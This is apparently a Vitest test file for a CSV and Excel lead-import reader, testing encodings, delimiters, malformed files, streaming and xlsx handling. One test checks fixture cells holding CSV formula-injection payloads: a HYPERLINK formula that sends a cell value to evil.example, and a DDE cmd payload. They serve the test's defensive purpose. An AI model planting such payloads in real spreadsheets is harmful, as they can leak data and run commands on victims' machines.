import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ImportError, type ImportErrorCode } from './import-error.ts';
import { openImportFile, type ImportFile, type ImportRow } from './read-file.ts';

const fixture = (name: string): string => path.join(import.meta.dirname, 'fixtures', name);
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'sdr-import-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function write(name: string, content: string | Uint8Array): Promise<string> {
  const file = path.join(dir, name);
  await writeFile(file, content);
  return file;
}

async function all(file: ImportFile): Promise<ImportRow[]> {
  const rows: ImportRow[] = [];
  for await (const row of file.rows()) rows.push(row);
  return rows;
}

async function refused(
  open: Promise<unknown>,
  code: ImportErrorCode,
  message?: RegExp,
): Promise<ImportError> {
  const err = await open.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(ImportError);
  expect((err as ImportError).code).toBe(code);
  if (message) expect((err as ImportError).message).toMatch(message);
  return err as ImportError;
}

describe('openImportFile: real-world CSV files', () => {
  it('reads a HubSpot export (UTF-8 with BOM, commas, CRLF, quoted commas)', async () => {
    const file = await openImportFile(fixture('hubspot-contacts.csv'));
    expect(file).toMatchObject({ format: 'csv', encoding: 'utf-8', delimiter: ',' });
    expect(file.headers[0]).toBe('Record ID'); // no BOM left on the first header
    expect(file.headers).toContain('Unsubscribed from all email');
    const rows = await all(file);
    expect(rows.map((r) => r.rowNumber)).toEqual([2, 3, 4, 5]);
    expect(rows[0]!.cells[6]).toBe('Analytical Engines, Inc.');
    expect(rows[2]!.cells.slice(1, 3)).toEqual(['José', 'Müller']);
    expect(rows.every((r) => r.cells.length === file.headers.length)).toBe(true);
    expect(file.progress()).toEqual({ bytesRead: file.totalBytes, totalBytes: file.totalBytes });
  });

  it('reads a Salesforce export (every value quoted, LF)', async () => {
    const file = await openImportFile(fixture('salesforce-leads.csv'));
    expect(file.headers.slice(0, 3)).toEqual(['FirstName', 'LastName', 'Email']);
    const rows = await all(file);
    expect(rows).toHaveLength(2);
    expect(rows[1]!.cells[13]).toBe('Unknown Owner');
  });

  it('reads an Excel CSV saved as windows-1252 with semicolons', async () => {
    const file = await openImportFile(fixture('excel-windows-1252-semicolon.csv'));
    expect(file).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
    expect(file.headers).toEqual([
      'Vorname',
      'Nachname',
      'E-Mail',
      'Telefon',
      'Firma',
      'Land',
      'Notiz',
    ]);
    const rows = await all(file);
    expect(rows[0]!.cells).toEqual([
      'Zoë',
      'Brontë',
      'zoe@example.fr',
      '+33 6 12 34 56 78',
      'Café Müller',
      'Frankreich',
      'Très intéressé – Rückruf',
    ]);
    expect(rows[1]!.cells[1]).toBe('Weiß');
  });

  it('reads UTF-16 LE tab-separated text ("Unicode Text" from Excel)', async () => {
    const file = await openImportFile(fixture('excel-unicode-text-utf16le.txt'));
    expect(file).toMatchObject({ encoding: 'utf-16le', delimiter: '\t' });
    expect(file.headers[0]).toBe('First Name');
    const rows = await all(file);
    expect(rows.map((r) => r.cells.slice(0, 2))).toEqual([
      ['Łukasz', 'Żółć'],
      ['美咲', '佐藤'],
    ]);
  });

  it('reads UTF-16 BE with a BOM', async () => {
    const le = Buffer.from('name\tcity\nZoë\tKöln\n', 'utf16le');
    const be = Buffer.from(le.swap16());
    const file = await openImportFile(
      await write('be.tsv', Buffer.concat([Buffer.from([0xfe, 0xff]), be])),
    );
    expect(file).toMatchObject({
      encoding: 'utf-16be',
      delimiter: '\t',
      headers: ['name', 'city'],
    });
    expect((await all(file))[0]!.cells).toEqual(['Zoë', 'Köln']);
  });

  it('keeps quoted multi-line values and skips blank lines, with spreadsheet row numbers', async () => {
    const file = await openImportFile(fixture('multiline-notes.csv'));
    const rows = await all(file);
    // Row 2 spans four lines but is one row; rows 3, 5, 6 and 8 are blank.
    expect(rows.map((r) => r.rowNumber)).toEqual([2, 4, 7]);
    expect(rows[0]!.cells[3]).toBe(
      'Met at the conference.\nWants a demo in "Q3".\n\nCall back after the 15th.',
    );
    expect(rows[1]!.cells[3]).toBe('Single line, with a comma');
    expect(rows[2]!.cells).toEqual(['Alan', 'Turing', 'alan@example.com', '']);
  });

  it('returns formula-looking cells exactly as written', async () => {
    const rows = await all(await openImportFile(fixture('formulas.csv')));
    expect(rows[0]!.cells[4]).toBe('=HYPERLINK("http://evil.example/?x="&A2,"Click me")');
    expect(rows[0]!.cells[6]).toBe('@SUM(A1:A9)');
    expect(rows[1]!.cells[5]).toBe("+cmd|' /C calc'!A0");
  });

  it.each([
    ['tabs in a .csv', 'a\tb\tc\n1\t2\t3\n', '\t'],
    ['semicolons', 'a;b;c\n1;2,5;3\n', ';'],
    ['commas with semicolons inside values', 'a,b\n"x;y;z",2\n"p;q",3\n', ','],
    ['a single column', 'email\nada@example.com\n', ','],
  ])('detects the delimiter: %s', async (_what, text, delimiter) => {
    const file = await openImportFile(await write('delim.csv', text));
    expect(file.delimiter).toBe(delimiter);
    const rows = await all(file);
    expect(rows[0]!.cells.length).toBe(file.headers.length);
  });

  it("follows Excel's sep= line and does not count it as a row", async () => {
    const file = await openImportFile(await write('sep.csv', 'sep=;\r\nname;size\r\nAcme;1,5\r\n'));
    expect(file).toMatchObject({ delimiter: ';', headers: ['name', 'size'], headerRowNumber: 1 });
    expect(await all(file)).toEqual([{ rowNumber: 2, cells: ['Acme', '1,5'] }]);
  });

  it('pads short rows and keeps values beyond the last header (trailing empty cells dropped)', async () => {
    const file = await openImportFile(await write('ragged.csv', 'a,b,c\n1\n1,2,3,,\n1,2,3,4\n'));
    expect((await all(file)).map((r) => r.cells)).toEqual([
      ['1', '', ''],
      ['1', '2', '3'],
      ['1', '2', '3', '4'],
    ]);
  });
});

describe('openImportFile: encodings found late', () => {
  const asciiRows = (n: number): string =>
    Array.from({ length: n }, (_, i) => `row${i},plain ascii text for padding the head\n`).join('');

  it('switches to windows-1252 when the first non-ASCII byte comes after an ASCII-only head', async () => {
    const head = `name,note\n${asciiRows(30_000)}`; // > 1 MiB of ASCII
    expect(head.length).toBeGreaterThan(1024 * 1024);
    const tail = Buffer.from([...Buffer.from('Zo'), 0xeb, ...Buffer.from(',caf'), 0xe9, 0x0a]);
    const file = await openImportFile(
      await write('late-1252.csv', Buffer.concat([Buffer.from(head), tail])),
    );
    expect(file.encoding).toBe('utf-8');
    const rows = await all(file);
    expect(rows).toHaveLength(30_001);
    expect(rows.at(-1)!.cells).toEqual(['Zoë', 'café']);
  });

  it('refuses a file that is UTF-8 first and something else later, naming the row', async () => {
    const head = `name,note\nJosé,utf-8\n${asciiRows(30_000)}`;
    const tail = Buffer.from([...Buffer.from('Zo'), 0xeb, 0x0a]);
    const file = await openImportFile(
      await write('mixed.csv', Buffer.concat([Buffer.from(head), tail])),
    );
    const err = await refused(all(file), 'invalid_encoding', /^After row \d+: .*UTF-8/);
    expect(Number(/After row (\d+)/.exec(err.message)![1])).toBeGreaterThan(1);
  });
});

describe('openImportFile: bad files', () => {
  it('refuses an empty file and one with only blank lines', async () => {
    await refused(openImportFile(fixture('empty.csv')), 'empty_file');
    await refused(openImportFile(await write('blank.csv', '\r\n\r\n   \n')), 'empty_file');
    await refused(openImportFile(await write('bom.csv', '\uFEFF\n')), 'empty_file');
    await refused(openImportFile(await write('commas.csv', ',,,\n,,\n')), 'empty_file', /no rows/);
  });

  it('refuses binary junk (generated: random bytes with NULs)', async () => {
    const junk = randomBytes(64 * 1024);
    junk[10] = 0;
    await refused(
      openImportFile(await write('junk.csv', junk)),
      'binary_file',
      /not a CSV or Excel file/,
    );
    await refused(
      openImportFile(
        await write('picture.csv', Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10])),
      ),
      'binary_file',
      /PNG/,
    );
  });

  it('refuses an Excel 97-2003 .xls', async () => {
    const ole2 = Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      randomBytes(512),
    ]);
    await refused(openImportFile(await write('old.xls', ole2)), 'unsupported_format', /\.xls/);
  });

  it('refuses a missing path and a directory', async () => {
    await refused(openImportFile(path.join(dir, 'nope.csv')), 'not_found');
    await refused(openImportFile(dir), 'not_found', /not a file/);
  });

  it('refuses a file over the size limit before reading it (a 5 GB sparse file)', async () => {
    const huge = path.join(dir, 'huge.csv');
    await writeFile(huge, 'name\n');
    await truncate(huge, 5 * 1024 ** 3);
    const started = performance.now();
    await refused(openImportFile(huge), 'file_too_large', /5 GB; the limit is 1 GB/);
    expect(performance.now() - started).toBeLessThan(1000);
    await refused(
      openImportFile(fixture('hubspot-contacts.csv'), { maxBytes: 1000 }),
      'file_too_large',
      /the limit is 1000 bytes/,
    );
  });

  it('names duplicate headers (ignoring case and spaces)', async () => {
    await refused(
      openImportFile(await write('dup.csv', 'Name,Email,Phone,email ,Phone\n')),
      'duplicate_header',
      /"email" \(columns B and D\); "Phone" \(columns C and E\)/,
    );
  });

  it('names blank headers, but ignores blank trailing ones', async () => {
    await refused(
      openImportFile(await write('blank-h.csv', 'Name,,Email,\n')),
      'blank_header',
      /Column B has no name/,
    );
    await refused(
      openImportFile(await write('blank-h2.csv', ',Name,,Email\n')),
      'blank_header',
      /Columns A, C have no name/,
    );
    const file = await openImportFile(
      await write('trailing.csv', 'Name,Email,,\nAda,ada@example.com,,\n'),
    );
    expect(file.headers).toEqual(['Name', 'Email']);
    expect((await all(file))[0]!.cells).toEqual(['Ada', 'ada@example.com']);
  });

  it('refuses a first row that is data, not column names', async () => {
    await refused(
      openImportFile(
        await write('nohead.csv', 'Ada,ada@example.com,+14155550123\nBob,bob@example.com,\n'),
      ),
      'no_header_row',
      /looks like data/,
    );
    await refused(openImportFile(await write('numbers.csv', '1,2,3\n4,5,6\n')), 'no_header_row');
  });

  it('refuses a quoted value that is never closed, naming its row', async () => {
    const file = await openImportFile(
      await write('unclosed.csv', 'name,note\nAda,"fine"\nBob,"never closed\nCat,x\nDan,y\n'),
    );
    const rows: ImportRow[] = [];
    const err = await refused(
      (async () => {
        for await (const row of file.rows()) rows.push(row);
      })(),
      'malformed_csv',
      /Row 3 opens a quoted value/,
    );
    expect(err).toBeDefined();
    expect(rows.map((r) => r.rowNumber)).toEqual([2]);
  });

  it('accepts a header row with no data rows', async () => {
    const file = await openImportFile(await write('headonly.csv', 'name,email\r\n'));
    expect(file.headers).toEqual(['name', 'email']);
    expect(await all(file)).toEqual([]);
  });
});

describe('openImportFile: large files, resuming and progress', () => {
  let big: string;
  const ROWS = 40_000;

  beforeAll(async () => {
    // Quoted multi-line values, commas and quotes in every row: a parse that lost its place at a
    // chunk boundary (or while paused for backpressure) would shift every later row.
    const lines = ['id,name,note'];
    for (let i = 1; i <= ROWS; i += 1) {
      lines.push(`${i},"Lead ${i}, Inc.","line one of ${i}\nline two ""quoted"" ${i}"`);
    }
    big = await write('big.csv', `${lines.join('\r\n')}\r\n`);
  });

  it('streams every row intact, in order', async () => {
    const file = await openImportFile(big);
    let expected = 1;
    for await (const row of file.rows()) {
      expect(row.cells[0]).toBe(String(expected));
      if (expected % 997 === 0 || expected === ROWS) {
        expect(row.cells).toEqual([
          String(expected),
          `Lead ${expected}, Inc.`,
          `line one of ${expected}\nline two "quoted" ${expected}`,
        ]);
        expect(row.rowNumber).toBe(expected + 1);
      }
      expected += 1;
    }
    expect(expected - 1).toBe(ROWS);
  });

  it('reads only as far ahead as it needs (backpressure) and reports byte progress', async () => {
    const file = await openImportFile(big);
    const total = (await readFile(big)).length;
    expect(file.totalBytes).toBe(total);
    const iterator = file.rows();
    for (let i = 0; i < 10; i += 1) await iterator.next();
    await new Promise((resolve) => setTimeout(resolve, 50)); // let any unbounded reading run ahead
    const early = file.progress();
    expect(early.bytesRead).toBeGreaterThan(0);
    expect(early.bytesRead).toBeLessThan(total / 2);
    for (;;) if ((await iterator.next()).done) break;
    expect(file.progress()).toEqual({ bytesRead: total, totalBytes: total });
  });

  it('resumes at a row (startAtRow) with the same row numbers', async () => {
    const file = await openImportFile(big, { startAtRow: 30_001 });
    const rows = await all(file);
    expect(rows).toHaveLength(ROWS - 30_000 + 1);
    expect(rows[0]!.rowNumber).toBe(30_001);
    expect(rows[0]!.cells[0]).toBe('30000');
    expect(rows.at(-1)!.rowNumber).toBe(ROWS + 1);
  });

  it('stops reading when the consumer stops early, and close() releases the file', async () => {
    const file = await openImportFile(big);
    for await (const row of file.rows()) {
      if (row.rowNumber === 5) break;
    }
    expect(file.progress().bytesRead).toBeLessThan(file.totalBytes);
    await file.close();
    const second = await openImportFile(big);
    await second.close();
    await expect(all(second)).resolves.toEqual([]);
  });
});

describe('openImportFile: xlsx', () => {
  it('reads the first worksheet of a workbook written by exceljs', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Leads');
    sheet.addRow([
      'First Name',
      'Email',
      'Phone',
      'Created',
      'Score',
      'Notes',
      'VIP',
      'Followed up',
    ]);
    sheet.addRow([
      'Ada',
      { text: 'ada@example.com', hyperlink: 'mailto:ada@example.com' },
      14155550123,
      new Date(Date.UTC(2024, 2, 5)),
      { formula: 'SUM(1,2)', result: 3 },
      { richText: [{ text: 'Met at ' }, { font: { bold: true }, text: 'SaaStr' }] },
      true,
      new Date(Date.UTC(2024, 2, 5, 14, 30, 0)),
    ]);
    sheet.addRow([]); // row 3: blank
    sheet.addRow([
      'Grace',
      'grace@example.com',
      '+44 20 7946 0958',
      { formula: 'DATE(2024,3,6)', result: 45357 },
      { formula: 'B4&"!"' }, // no cached result
      { formula: 'NA()', result: { error: '#N/A' } },
      false,
      null,
    ]);
    sheet.getCell('D4').numFmt = 'dd/mm/yyyy';
    sheet.getCell('H2').numFmt = 'yyyy-mm-dd hh:mm';
    workbook.addWorksheet('Other').addRow(['not', 'imported']);
    const file = path.join(dir, 'leads.xlsx');
    await workbook.xlsx.writeFile(file);

    const opened = await openImportFile(file);
    expect(opened).toMatchObject({
      format: 'xlsx',
      encoding: null,
      delimiter: null,
      headerRowNumber: 1,
    });
    expect(opened.headers).toEqual([
      'First Name',
      'Email',
      'Phone',
      'Created',
      'Score',
      'Notes',
      'VIP',
      'Followed up',
    ]);
    const rows = await all(opened);
    expect(rows).toEqual([
      {
        rowNumber: 2,
        cells: [
          'Ada',
          'ada@example.com',
          '14155550123',
          '2024-03-05',
          '3',
          'Met at SaaStr',
          'TRUE',
          '2024-03-05T14:30:00',
        ],
      },
      {
        rowNumber: 4,
        cells: [
          'Grace',
          'grace@example.com',
          '+44 20 7946 0958',
          '2024-03-06',
          // No cached value (or an error value, which exceljs' stream reader drops): the formula
          // comes back as written, so the user sees it (and the import warns about it).
          '=B4&"!"',
          '=NA()',
          'FALSE',
          '',
        ],
      },
    ]);
    expect(opened.progress()).toEqual({
      bytesRead: opened.totalBytes,
      totalBytes: opened.totalBytes,
    });
  });

  it('reads the first visible tab: not a hidden one, not the first sheet file in the zip', async () => {
    // A hidden first sheet (its file comes first in the zip).
    const hiddenFirst = new ExcelJS.Workbook();
    const notes = hiddenFirst.addWorksheet('Notes');
    notes.addRow(['hidden notes']);
    notes.state = 'hidden';
    const leads = hiddenFirst.addWorksheet('Leads');
    leads.addRow(['Email']);
    leads.addRow(['ada@example.com']);
    const file = path.join(dir, 'hidden-first.xlsx');
    await hiddenFirst.xlsx.writeFile(file);
    const opened = await openImportFile(file);
    expect(opened.headers).toEqual(['Email']);
    expect(await all(opened)).toEqual([{ rowNumber: 2, cells: ['ada@example.com'] }]);

    // Tabs reordered: the first tab is the sheet created last.
    const reordered = new ExcelJS.Workbook();
    reordered.addWorksheet('Created first').addRow(['Second tab']);
    const firstTab = reordered.addWorksheet('First tab');
    firstTab.addRow(['Company']);
    // `orderNo` (the tab position exceljs writes) is missing from its type definitions.
    (firstTab as unknown as { orderNo: number }).orderNo = 0;
    (reordered.getWorksheet('Created first') as unknown as { orderNo: number }).orderNo = 1;
    const file2 = path.join(dir, 'reordered.xlsx');
    await reordered.xlsx.writeFile(file2);
    expect((await openImportFile(file2)).headers).toEqual(['Company']);
  });

  it('finds the header below blank rows and resumes at a row', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('S');
    sheet.getCell('A3').value = 'Email';
    sheet.getCell('B3').value = 'Company';
    for (let i = 4; i <= 20; i += 1) sheet.getRow(i).values = [`l${i}@example.com`, `Co ${i}`];
    const file = path.join(dir, 'offset.xlsx');
    await workbook.xlsx.writeFile(file);
    const opened = await openImportFile(file, { startAtRow: 18 });
    expect(opened.headerRowNumber).toBe(3);
    expect((await all(opened)).map((r) => [r.rowNumber, r.cells[0]])).toEqual([
      [18, 'l18@example.com'],
      [19, 'l19@example.com'],
      [20, 'l20@example.com'],
    ]);
  });

  it('refuses a damaged xlsx (truncated, or junk after the zip signature)', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('S').addRow(['Email']);
    const good = path.join(dir, 'good.xlsx');
    await workbook.xlsx.writeFile(good);
    const bytes = await readFile(good);
    await refused(
      openImportFile(
        await write('truncated.xlsx', bytes.subarray(0, Math.floor(bytes.length / 2))),
      ),
      'corrupt_xlsx',
      /cannot be read/,
    );
    const junk = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(4096)]);
    await refused(openImportFile(await write('junk.xlsx', junk)), 'corrupt_xlsx');
  });

  it('applies the header checks to xlsx too', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('S').addRow(['Email', 'Name', 'EMAIL']);
    const file = path.join(dir, 'dup.xlsx');
    await workbook.xlsx.writeFile(file);
    await refused(openImportFile(file), 'duplicate_header', /"EMAIL" \(columns A and C\)/);
  });
});
